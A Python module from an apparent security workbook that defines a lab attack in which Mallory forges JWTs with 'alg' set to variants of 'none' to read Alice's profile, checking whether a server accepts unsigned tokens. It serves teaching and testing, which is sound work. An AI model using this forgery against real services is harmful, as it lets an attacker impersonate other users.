"""Mallory writes Alice's id into a token, sets `alg` to `none`, and leaves the signature out.

It works where the server lets the token itself say whether it is signed.
"""

from workbook.attacking import Api, NoSuchRoute, attack, forge

SPELLINGS = ("none", "None", "NONE", "nOnE", "")


@attack(
    "Be Alice with an unsigned token",
    route="GET /profile",
    closes=6,
    see="RFC 8725 §3.1",
    catches="VF-02 VF-03",
)
def profile_alg_none(api: Api) -> str | None:
    if api.get("/profile", caller="mallory").status != 401:
        raise NoSuchRoute("a /profile that asks for a token")
    alice, mallory = api.alice, api.mallory
    address = {"username": alice.username}
    for spelling in SPELLINGS:
        unsigned = forge.unsigned(mallory.token, spelling, sub=alice.id)
        seen = api.get("/profile", token=unsigned, params=address, caller=mallory.username)
        if seen.status == 200 and alice.username in seen.text:
            return f"Alice's profile, with an unsigned token whose alg is “{spelling}”"
    return None
